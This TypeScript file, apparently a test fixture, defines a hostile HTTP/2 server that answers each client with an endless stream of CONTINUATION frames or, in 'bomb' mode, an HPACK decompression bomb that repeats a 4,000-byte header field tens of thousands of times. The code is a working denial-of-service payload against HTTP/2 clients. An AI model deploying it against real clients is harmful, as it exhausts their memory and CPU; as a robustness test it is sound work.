/**
 * Hostile: answers each call with a header block that never ends, of CONTINUATION frames; with the argument `bomb` by one that is short, and
 * names one long field of the table (RFC 7541) over and over.
 */
import { createServer, type Socket } from 'node:net';

const { PORT = '8080', HOST = '127.0.0.1' } = process.env;
const [SETTINGS, HEADERS, CONTINUATION, END_HEADERS] = [0x4, 0x1, 0x9, 0x4];
/** `:status: 200` of the static table, then `x: …` of 4,000 bytes, put into the dynamic one. */
const FIELD = Buffer.concat([Buffer.from([0x88, 0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 'x')]);
/** The first of the dynamic table. */
const AGAIN = Buffer.alloc(16_000, 0xbe);

function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function pour(socket: Socket): void {
  if (!socket.destroyed) socket.write(frame(CONTINUATION, 0, 1, AGAIN), () => setImmediate(pour, socket));
}

createServer((socket) => {
  socket
    .on('error', () => {})
    .once('data', () => {
      socket.write(Buffer.concat([frame(SETTINGS, 0, 0), frame(SETTINGS, 1, 0), frame(HEADERS, 0, 1, FIELD)]));
      if (process.argv[2] === 'bomb') {
        for (let i = 0; i < 60; i++) socket.write(frame(CONTINUATION, 0, 1, AGAIN));
        socket.write(frame(CONTINUATION, END_HEADERS, 1));
      } else pour(socket);
    });
  socket.resume();
}).listen(Number(PORT), HOST);
